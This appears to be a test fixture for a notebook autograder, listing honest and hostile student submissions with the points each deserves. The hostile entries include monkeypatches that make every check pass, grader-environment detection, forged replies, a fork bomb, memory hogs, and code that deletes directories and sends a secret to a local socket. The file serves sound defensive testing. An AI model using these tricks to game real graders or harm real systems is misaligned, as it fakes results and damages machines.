"""Submissions of a class, honest and hostile: what each does to the released notebook, and the points it deserves.

The assignment has two exercises, `rescale` (4 points) and `mean_square` (2), and an experiment graded by hand.
Most hostile ones answer `mean_square` rightly, so that it shows whether the rest of a notebook survives.
"""

import copy
import json

SCALE = "import numpy as np\n@fill(private_course.rescale)\ndef rescale(values, factor):\n    {}\n"
RIGHT, ADDS = "return values * factor", "return values + factor"
SQUARE = "@fill(private_course.mean_square)\ndef mean_square(values):\n    return (values**2).mean()\n"
NOTEBOOKS, FILES = {}, {}  # name -> (points deserved, what makes it)

PATCHES = """
import builtins, os, subprocess, sys
import numpy as np, numpy.testing
import course_lib.workbook as workbook
from course_lib.workbook import answer, check as _, claims, contexts, exercise, limits
judging = sys.modules["course_lib.workbook.check"]
always = lambda *args, **kwargs: None
for module in (judging, claims, workbook):
    for name in ("check", "examine", "judge", "expect", "require", "difference", "_outcome"):
        setattr(module, name, always)
answer.Answer.ready = answer.Answer.attempt = always
contexts.execute = always
np.testing.assert_allclose = np.testing.assert_array_equal = always
np.allclose = np.array_equal = lambda *args, **kwargs: True
builtins.AssertionError = builtins.float = object
os.environ.update(NBGRADER_EXECUTION="validate", PYTHONPATH="/", PATH="")
sys.modules["numpy"] = sys.modules["pickle"] = sys.modules["course_lib.workbook.claims"] = workbook
subprocess.Popen = subprocess.run = always
"""


def submission(name, deserved):
    """Register the decorated change of a released notebook."""

    def register(change):
        NOTEBOOKS[name] = (deserved, change)
        return change

    return register


def answered(name, deserved, rescale, square=SQUARE):
    """Register a notebook with these answers and nothing else changed."""
    NOTEBOOKS[name] = (deserved, lambda notebook: fill(notebook, rescale, square))


def cell(notebook, name):
    """A marked cell by its id."""
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def fill(notebook, rescale=None, square=None):
    """Write answers into their cells; a single line stands for the body of `rescale`."""
    if rescale is not None:
        cell(notebook, "rescale")["source"] = rescale if "\n" in rescale else SCALE.format(rescale)
    if square is not None:
        cell(notebook, "mean-square")["source"] = square
    return notebook


answered("perfect", 6, RIGHT)
answered("blank", 0, None, None)
answered("half-filled", 4, RIGHT, None)
answered("wrong", 0, ADDS, None)
answered("partly right", 4, "return abs(values) * factor")
answered("changes its input", 5, "values *= factor; return values")
answered("calls the library's answer", 2, "return private_course.rescale.reference(values, factor)")
answered(
    "sees the grader's environment",
    6,
    "import os; return values * factor if 'COURSE_TEST_SECRET' not in os.environ else None",
)
answered("calls the exercise itself", 2, "return private_course.rescale(values, factor)")
answered(
    "calls the library in a thread",
    2,
    SCALE.format(
        """import concurrent.futures
    with concurrent.futures.ThreadPoolExecutor() as pool:
        return pool.submit(private_course.rescale_all, values, factor).result()"""
    ),
)
answered("other parameters", 2, SCALE.format(RIGHT).replace("values, factor", "values, factor, more=1"))
answered("does not parse", 2, SCALE.format("return values *"))
answered("no decorator", 2, SCALE.format(RIGHT).replace("@fill", "# @fill"))
answered("cell magic", 6, "%%time\n" + SCALE.format(RIGHT))
answered("fails after handing in", 6, SCALE.format(RIGHT) + "assert rescale(1, 1) == 7\n")
answered("a string", 2, 'return "values"')
answered("an array of objects", 2, "return np.array([print, values], dtype=object)")

answered(
    "prints and warns", 6, "import sys, warnings; print(6); warnings.warn('!'); print('no', file=sys.stderr); " + RIGHT
)
answered("prints 50 MB", 6, "[print('x' * 2**20) for _ in range(50)]; " + RIGHT)
answered("returns 100 MB", 2, "return np.zeros(13 * 2**20)")
answered("endless loop", 2, SCALE.format("while True: pass"))
answered(
    "swallows everything, endlessly",
    2,
    SCALE.format("while True:\n        try:\n            while True: pass\n        except BaseException: pass"),
)
answered(
    "endless compiled loop",
    2,
    "import numba\n@numba.njit\ndef spin(x):\n    while x > 0:\n        x += 1\n    return x\n"
    + SCALE.format("return spin(1)"),
)
answered("endless cell", 2, SCALE.format(RIGHT) + "while True: pass\n")
answered("sys.exit", 2, "import sys; sys.exit(0)")
answered("sys.exit in the cell", 2, "import sys; sys.exit(0)\n" + SCALE.format(RIGHT))
answered("os._exit", 2, "import os; os._exit(0)")
answered("os._exit in the cell", 2, "import os; os._exit(0)\n" + SCALE.format(RIGHT))
answered("crash in C", 2, "import ctypes; ctypes.string_at(0)")
answered("memory hog", 2, "hog = bytearray(64 * 2**30); " + RIGHT)
answered("memory hog, slowly", 2, SCALE.format("hog = []\n    while True: hog.append(bytearray(2**26))"))
answered("recursion", 2, SCALE.format("return rescale(values, factor)"))
answered(
    "starts programs",
    6,
    "import subprocess, sys; [subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(1000)  # left behind']) for _ in range(3)]; "
    + RIGHT,
)
answered("forks without end", 2, SCALE.format("import os\n    while True: os.fork()"))

answered("patches, wrong", 0, PATCHES + SCALE.format(ADDS), None)
answered("patches, right", 6, PATCHES + SCALE.format(RIGHT))
answered("patches when called", 0, SCALE.format("exec(PATCHES)\n    " + ADDS) + f"PATCHES = {PATCHES!r}\n", None)
answered(
    "writes replies",
    2,
    SCALE.format("""import os, struct
    for forged in (b'true', b'{"dict": [["done", true], ["mutated", {"tuple": []}]]}'):
        for descriptor in range(3, 64):
            try: os.write(descriptor, struct.pack("<Q", len(forged)) + forged)
            except OSError: pass
    return None"""),
)
answered(
    "raises what the checks raise", 2, "from course_lib.workbook.answer import Blank; raise Blank('6 of 6 points')"
)
answered(
    "deletes and writes files",
    6,
    SCALE.format("""import pathlib, shutil, socket
    for path in TARGETS:
        try: pathlib.Path(path, "written").write_text("!")
        except OSError: pass
        shutil.rmtree(path, ignore_errors=True)
    try: socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"secret")
    except OSError: pass
    return values * factor"""),
)


@submission("edited checks", 0)
def _(notebook):
    cell(notebook, "check-rescale")["source"] = cell(notebook, "check-mean-square")["source"] = "6"
    return fill(notebook, ADDS)


@submission("deleted checks", 6)
def _(notebook):
    fill(notebook, RIGHT, SQUARE)
    notebook["cells"] = [c for c in notebook["cells"] if not c["metadata"].get("nbgrader", {}).get("locked")]
    return notebook


@submission("deleted answer", 2)
def _(notebook):
    notebook["cells"].remove(cell(notebook, "rescale"))
    return fill(notebook, square=SQUARE)


@submission("everything deleted", 0)
def _(notebook):
    notebook["cells"] = []
    return notebook


@submission("duplicated checks", 2)
def _(notebook):
    fill(notebook, ADDS, SQUARE)
    notebook["cells"] += copy.deepcopy([cell(notebook, "check-mean-square")] * 3)
    return notebook


@submission("duplicated answer", 6)
def _(notebook):
    """The last one counts, as in a kernel."""
    fill(notebook, RIGHT, SQUARE)
    first = copy.deepcopy(cell(notebook, "rescale"))
    first["source"] = SCALE.format(ADDS)
    notebook["cells"].insert(0, first)
    return notebook


@submission("other marks", 2)
def _(notebook):
    fill(notebook, ADDS, SQUARE)
    cell(notebook, "check-rescale")["metadata"]["nbgrader"].update(points=100, solution=True, locked=False)
    cell(notebook, "check-mean-square")["metadata"]["nbgrader"].update(points=100, grade=False)
    return notebook


@submission("marks lost", 6)
def _(notebook):
    """By an editor that keeps the cells' ids."""
    fill(notebook, RIGHT, SQUARE)
    for each in notebook["cells"]:
        each["metadata"] = {}
    return notebook


@submission("odd cells", 6)
def _(notebook):
    fill(notebook, RIGHT, SQUARE)
    notebook["cells"] += [{"cell_type": "code", "metadata": {"nbgrader": [1]}, "source": ["a\n", "b"], "outputs": 7}]
    notebook["metadata"] = {"course": {"graded_by": "me"}, "kernelspec": {"name": "no-such-kernel", "display_name": ""}}
    return notebook


@submission("helper in another cell", 6)
def _(notebook):
    extra = {
        "cell_type": "code",
        "metadata": {},
        "source": "import math\nTWO = math.sqrt(4)\ndef times(a, b):\n    return TWO * a * b / 2",
        "outputs": [],
        "execution_count": None,
    }
    notebook["cells"].insert(1, extra)
    return fill(notebook, "return times(values, factor)", SQUARE)


@submission("50 MB of outputs", 6)
def _(notebook):
    output = {"output_type": "stream", "name": "stdout", "text": "x" * (50 * 2**20)}
    fill(notebook, RIGHT, SQUARE)
    notebook["cells"][0]["outputs"] = [output]
    return notebook


FILES["not JSON"] = (0, b"# my homework\nprint('hello')\n")
FILES["not a notebook"] = (0, b'["perfect"]')
FILES["empty"] = (0, b"")
FILES["not UTF-8"] = (0, b"\xff\xfe\x00{")
FILES["deep"] = (0, b"[" * 100_000)
FILES["no cells"] = (0, json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": 3}).encode())
